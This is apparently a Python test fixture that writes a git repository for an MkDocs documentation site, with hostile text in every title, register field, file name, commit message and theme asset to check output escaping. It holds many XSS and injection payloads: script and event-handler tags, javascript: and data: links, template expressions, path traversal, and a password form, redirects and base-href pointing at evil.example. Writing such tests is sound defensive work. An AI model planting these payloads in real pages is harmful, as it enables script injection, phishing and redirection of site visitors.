"""A repository in which everything that can carry an attack carries one."""

from __future__ import annotations

import json
from importlib.resources import files as resources
from pathlib import Path

from built_site import commit_all, run_git

THEME = Path(str(resources("material"))) / "templates"
"""What the theme brings."""
RUN = "window.__hurt=1"
"""What an attack would do."""
IMAGE = f"<img src=x onerror={RUN}>"
TEXT = (
    f"\"'>{IMAGE}<script>{RUN}</script><svg onload={RUN}></svg><iframe src=https://evil.example/></iframe>"
    f"</title></textarea></style></script>--><a class=md-overlay href=javascript:{RUN}>x</a>"
    "<label for=__drawer>y</label>"
    "{{ 7*7 }}"
)
"""What stands in titles, names, cells and messages: it would act wherever it is not escaped."""
ID = f"\"'>{IMAGE}<script>{RUN}</script>"
"""The same for ids, which become names of files."""
ADDRESS = "&javascript:window.__hurt=1&#x22;&#x20;onclick=window.__hurt=1&#x20;x=&#x22;"
"""The same for settings that take an address; quotes and angle brackets are refused there."""
NAME = f"Eve \"{IMAGE.replace(' ', '/').replace('<', '').replace('>', '')}' & Co <b>x"
SETTINGS = f"""
site_name: {json.dumps(TEXT)}
theme:
  name: material
  font: false
  features: [navigation.indexes, content.tooltips, content.code.copy, search.suggest, search.highlight, toc.follow]
extra:
  polyfills: [assets/iframe-worker/shim.js]
plugins:
  - search
  - offline
  - smsdocs:
      organisation: {json.dumps(TEXT)}
      documents: [handbook]
      feedback: {json.dumps("https://example.org/?" + ADDRESS)}
      forge:
        view: {json.dumps("https://git.example.org/{path}?" + ADDRESS)}
        edit: {json.dumps("https://git.example.org/edit/{path}?" + ADDRESS)}
markdown_extensions: [abbr, admonition, attr_list, def_list, footnotes, md_in_html, tables, pymdownx.superfences,
                      pymdownx.details, pymdownx.tabbed: {{alternate_style: true}}, toc: {{permalink: true}}]
"""
BODY = f"""
# Attacks {IMAGE}

Words <script>{RUN}</script> and {IMAGE}

<script>{RUN}</script>

<style>body {{ display: none }} .md-header {{ background: url(https://evil.example/style) }}</style>

<iframe src="https://evil.example/frame" srcdoc="<script>parent.__hurt=1</script>"></iframe>

<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>

<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">

<link rel="stylesheet" href="https://evil.example/link"><meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>

<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>

<details open ontoggle="{RUN}"><summary onclick="{RUN}">more</summary>text</details>

<video src="https://evil.example/video" poster="https://evil.example/poster" onerror="{RUN}" autoplay></video>

<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/cover)">over all</div>

<div><input type="checkbox" checked data-md-toggle="drawer" id="__drawer"><a class="md-overlay" href="https://evil.example/">x</a></div>

<label for="__drawer" class="md-overlay">open</label> <label for="__search">search</label>

<span class="sms-state sms-good">in force</span>

[link](javascript:{RUN}) [entity](java&#115;cript:{RUN}) [data](data:text/html,<script>{RUN}</script>) [vb](vbscript:{RUN})

[attributes](index.md){{ onclick="{RUN}" style="position:fixed;inset:0" .md-overlay #__drawer }}

[title](index.md "{IMAGE.replace('"', "")}") <b title="<img src=x onerror={RUN}>">tip</b>

![picture](https://evil.example/picture) ![host](//evil.example/host) ![data](data:image/svg+xml,<svg/onload={RUN}>)

<picture><source srcset="https://evil.example/set 1x"><img src="https://evil.example/img" srcset="https://evil.example/two 2x" alt="x"></picture>

[drawing](acts.svg) ![drawing](acts.svg) [page](../docs/acts.html)

## Heading {{ onclick="{RUN}" }}

!!! note "{IMAGE.replace('"', "'")}"

    Words {IMAGE}

!!! md-overlay "x"

    y

```mermaid
graph TD
  A["{IMAGE.replace('"', "'")}"] --> B
  click A "javascript:{RUN}"
```

| cell {{ onclick="{RUN}" }} | b |
|---|---|
| {IMAGE} | <script>{RUN}</script> |

*[Words]: {IMAGE}

Note[^1]

[^1]: {IMAGE}
"""  # noqa: E501  # lines as an attacker writes them
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">
<script>{RUN}</script>
<image href="https://evil.example/inside"/>
</svg>
"""


TAKEN = (
    *(path.relative_to(THEME).as_posix() for path in sorted(THEME.glob("assets/*/*.js"))),
    *(path.relative_to(THEME).as_posix() for path in sorted(THEME.glob("assets/javascripts/workers/*.js"))),
    *(path.relative_to(THEME).as_posix() for path in sorted(THEME.glob("assets/stylesheets/*.css"))),
    "assets/smsdocs/tables.js",
    "assets/smsdocs/mermaid/mermaid.js",
    "assets/smsdocs/smsdocs.css",
    "Assets/JavaScripts/bundle.js",
)
"""Files in the place of what every page loads."""


def write_hostile(root: Path) -> Path:
    """Write the repository, in two commits by people with hostile names and messages."""
    _write(root)
    run_git(root, "init", "--quiet", "--initial-branch", "main")
    commit_all(
        root,
        f"{TEXT}\n\n{TEXT}\n\nReviewed-by: {NAME} <a@example.org>",
        at="2026-06-20T09:00:00+00:00",
        name=NAME,
    )
    page = root / "handbook/attacks.md"
    page.write_text(f"{page.read_text(encoding='utf-8')}\nOne more line {IMAGE}\n", encoding="utf-8")
    commit_all(
        root,
        f"{TEXT} again\n\nApproved-by: {NAME} <a@example.org>",
        at="2026-06-25T09:00:00+00:00",
        name=NAME,
    )
    return root


def _write(root: Path) -> None:
    head = {
        "id": "POL-1", "title": TEXT, "description": TEXT, "type": "policy", "status": "approved", "version": TEXT,
        "owner": ID, "approver": ID, "classification": TEXT, "process": TEXT, "implements": [TEXT],
        "supersedes": [TEXT], "services": [TEXT], "records": [TEXT], "provides": [TEXT], "clauses": [TEXT, "8.6"],
        "roles": {"accountable": ID, "responsible": [TEXT]}, "interfaces": [{"to": TEXT, "item": TEXT}],
        "approved_on": "2026-06-01", "template": "404.html", "icon": "../../etc", "tags": [TEXT], "hide": [TEXT],
    }  # fmt: skip
    row = {"id": ID, "title": TEXT, "name": TEXT, "purpose": TEXT, "notes": [TEXT, {TEXT: TEXT}]}
    person = {"id": ID, "name": TEXT, "git": [f"{NAME} <a@example.org>"],
              "assignments": [{"role": ID, "from": "2026-01-01"}]}  # fmt: skip
    record = {"id": ID, "title": TEXT, "date": "2026-01-01", "follows": [TEXT], "owner": TEXT, TEXT: TEXT}
    cell = TEXT.replace('"', '""')
    _put(root, {
        "mkdocs.yml": SETTINGS,
        "docs/index.md": f"---\n{json.dumps({'title': TEXT, 'description': TEXT})}\n---\n\n{IMAGE} Hello.\n",
        "docs/acts.html": f"<script>{RUN}</script>",
        "docs/registers/roles.yml": json.dumps({"id": ID, "title": TEXT, "owner": TEXT, "rows": [row]}),
        "docs/registers/people.yml": json.dumps({"rows": [person]}),
        "docs/registers/services.yml": json.dumps({"title": TEXT, "rows": [row]}),
        "docs/records/audit/one.md": f"---\n{json.dumps(record)}\n---\n\n{IMAGE}\n",
        "docs/records/training/list.csv": f'id,title,date\n"{cell}","{cell}",2026-01-01\n',
        **_list_registers(),
        **_list_records(cell),
        "handbook/attacks.md": f"---\n{json.dumps(head)}\n---\n{BODY}",
        "handbook/acts.svg": SVG,
        "docs/acts.svg": SVG,
        "handbook/'onclick=window.__hurt=1 x='.md": f"# {IMAGE}\n\nWords\n",
        "handbook/<img src=x onerror=window.__hurt=1>.md": f"# {TEXT}\n\n## {TEXT}\n\nWords\n",
        "handbook/{{ 7*7 }}.md": "# Braces\n\nWords\n",
        "docs/acts.rss": f'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{RUN}</h:script></x>',
        "docs/acts.xhtm": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
        "docs/acts.shtm": f"words <script>{RUN}</script>",
        "docs/acts.kml": f"<x>{' ' * 2_100_000}</x>",
        "docs/acts": f"<!doctype html><script>{RUN}</script>",
        **{f"docs/{path}": RUN for path in TAKEN},
    })  # fmt: skip


def _list_registers() -> dict[str, str]:
    """Return registers of a running system whose every text is hostile, and whose numbers and days make pages."""
    day, later = "2026-05-01", "2027-05-01"
    plain = {"id": ID, "title": TEXT, "name": TEXT, "owner": TEXT, "kind": "internal", "description": TEXT}
    rows: dict[str, dict[str, object]] = {
        "customers": {"services": [TEXT], "agreement": TEXT, "note": TEXT, "review_interval": "P6M", "since": day},
        "suppliers": {"delivers": TEXT, "services": [TEXT], "contract": TEXT, "contract_until": later,
                      "notice": "P3M", "criticality": "high", "review_interval": "P6M"},
        "interested-parties": {"needs": [TEXT], "binding": True, "communication": TEXT},
        "context": {"topic": "climate-change", "effect": TEXT, "relevant": True, "decided_on": day},
        "risks": {"likelihood": 3, "impact": 4, "score": 12, "level": "high", "action": TEXT,
                  "due": day, "works_if": TEXT,
                  "decision": "reduce", "state": TEXT, "customer_impact": TEXT, "about": TEXT, "review": day},
        "objectives": {"measure": TEXT, "unit": TEXT, "target": 5, "baseline": 1, "value": 3, "better": "higher",
                       "due": later, "how": TEXT, "kpi": ID},
        "kpis": {"process": TEXT, "formula": TEXT, "unit": TEXT, "target": 90, "better": "higher",
                 "frequency": "monthly", "data": TEXT, "since": "2026-01-01"},
        "improvements": {"source": TEXT, "criterion": TEXT, "assessed": TEXT, "decision": "approved", "target": TEXT,
                         "due": later, "state": "open", "result": TEXT},
        "obligations": {"source": TEXT, "asks": TEXT, "checked_on": day, "check_interval": "P6M"},
        "project": {"step": "S07", "begin": day, "due": later, "after": [TEXT], "effort": 3, "budget": 10,
                    "note": TEXT},
        "training": {"competences": [TEXT], "roles": ["everybody"], "interval": "P12M"},
        "external-documents": {"publisher": TEXT, "edition": TEXT, "location": TEXT, "checked_on": day},
        "retention": {"what": TEXT, "retention": "P5Y", "disposal": TEXT, "kinds": [TEXT]},
    }  # fmt: skip
    heads = {
        "project": {
            "certification": later,
            "stage_1": later,
            "stage_2": later,
            "body": TEXT,
            "currency": TEXT,
        }
    }
    return {
        f"docs/registers/{kind}.yml": json.dumps(
            {"title": TEXT, "owner": TEXT, **heads.get(kind, {}), "rows": [{**plain, **row}]}
        )
        for kind, row in rows.items()
    }


def _list_records(cell: str) -> dict[str, str]:
    """Return records and tables of a running system, hostile in the same way."""
    day, later = "2026-05-01", "2026-09-01"
    action = {"id": ID, "what": TEXT, "owner": TEXT, "due": day, "result": TEXT, "documents": [TEXT]}
    scope = {"processes": [TEXT, "incident-management"], "clauses": ["8.6", TEXT], "services": [TEXT]}
    finding = {"id": ID, "grade": "major", "clause": "8.6.1", "process": TEXT, "text": TEXT, "answer": TEXT}
    fields: dict[str, dict[str, object]] = {
        "audit-programme": {"cycle": {"from": "2026-01-01", "to": "2026-12-31"}, "frequency": TEXT, "methods": TEXT,
                            "audits": [{"id": ID, "planned": later, "auditors": [TEXT], **scope}]},
        "audit": {"audit": ID, "period": {"from": "2026-01-01", "to": day}, "scope": scope, "criteria": [TEXT],
                  "auditors": [TEXT, ID], "auditees": [TEXT], "findings": [finding], "reported_on": day},
        "nonconformity": {"grade": "major", "raised_on": day, "from": TEXT, "correction": TEXT, "cause": TEXT,
                          "concerns": scope, "actions": [action], "effect": {"due": later, "by": TEXT, "result": TEXT}},
        "management-review": {"chair": TEXT, "attendees": [TEXT], "inputs": {"mr-risks": TEXT, "mr-own": TEXT},
                              "decisions": [{**action, "about": "change"}], "next": later},
        "customer-review": {"customer": ID, "attendees": [TEXT], "result": TEXT, "satisfaction": 4, "complaints": 2},
        "supplier-review": {"supplier": ID, "result": TEXT, "actions": [action]},
        "test": {"test": "backup", "plan": TEXT, "result": "failed", "lessons": TEXT, "actions": [action]},
        "decision": {"about": "scope", "decided_by": TEXT, "decision": TEXT, "actions": [action]},
        "training": {"training": ID, "held_by": TEXT, "attendees": [ID, TEXT], "result": TEXT},
    }  # fmt: skip
    head = {"title": TEXT, "date": day}
    quoted = ID.replace('"', '""')
    lines = {
        "measurement": f'kpi,period,value,note\n"{quoted}",2026-04,80,"{cell}"\n"{cell}",2026-05,95,"{cell}"\n',
        "attendance": f'date,training,person,result\n{day},"{quoted}","{quoted}","{cell}"\n',
        "acknowledgement": f'date,person,document,version\n{day},"{quoted}",POL-1,"{cell}"\n',
    }
    records = {
        f"docs/records/{kind}/hostile.md": f"---\n{json.dumps({**head, 'id': f'REC-{number}', **more})}\n---\n\nX\n"
        for number, (kind, more) in enumerate(fields.items())
    }
    return records | {f"docs/records/{kind}/2026.csv": text for kind, text in lines.items()}


def _put(root: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text.lstrip("\n"), encoding="utf-8")
